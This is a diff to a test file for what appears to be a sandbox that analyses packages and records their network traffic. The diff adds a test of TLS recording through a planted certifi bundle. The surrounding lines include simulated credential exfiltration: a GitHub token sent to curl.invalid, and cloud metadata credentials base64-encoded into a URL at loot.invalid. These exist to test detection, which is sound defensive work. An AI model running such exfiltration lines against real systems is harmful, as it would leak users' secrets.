@@ -8,7 +8,7 @@ import pytest
 
 from analyzer.observations import read_sinkhole
 from analyzer.sandbox.client import RunOutcome
-from tests.analyzer.sandbox.lab import GUARD, Lab, lines, output, sdist
+from tests.analyzer.sandbox.lab import GUARD, Lab, lines, output, sdist, wheel
 
 pytestmark = pytest.mark.privileged
 
@@ -92,6 +92,22 @@ subprocess.run(argv, check=True)
     assert (talk["sni"], talk["tls"], talk["what"]) == ("curl.invalid", "ended", {"GITHUB_TOKEN"})
 
 
+async def test_tls__who_names_certifis_bundle_trusts_it_too(lab: Lab) -> None:
+    where = "import os\ndef where():\n    return os.path.join(os.path.dirname(__file__), 'cacert.pem')\n"
+    files = {"certifi/__init__.py": where, "certifi/cacert.pem": "none of ours\n"}
+    code = """
+    import certifi
+    context = ssl.create_default_context(cafile=certifi.where())
+    print(urllib.request.urlopen('https://pool.invalid/', timeout=5, context=context).status)
+"""
+    artifact = wheel("reenact_case", {"reenact_case.py": GUARD + CLIENT + "if HARNESS:" + code})
+    outcome = await lab.run(artifact, wheel("certifi", files, role="run"))
+
+    (talk,) = told(outcome)
+    assert "200" in output(outcome)
+    assert (talk["sni"], talk["tls"]) == ("pool.invalid", "ended")
+
+
 async def test_tls__a_pinned_client_is_recorded_with_its_name(lab: Lab) -> None:
     code = """
 context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
@@ -170,7 +186,9 @@ get('https://loot.invalid/' + base64.b64encode(gcp).decode())
     talks = told(await run(lab, code))
 
     assert {talk["host"] or talk["address"] for talk in talks if talk["what"]} == {"loot.invalid"}
-    assert [talk["what"] for talk in talks if talk["host"] == "loot.invalid"] == [{"cloud-role"}] * 2
+    assert [talk["what"] for talk in talks if talk["host"] == "loot.invalid"] == [
+        {"cloud-role"}
+    ] * 2
     assert talks[-2]["address"] == "169.254.169.254"
 
 
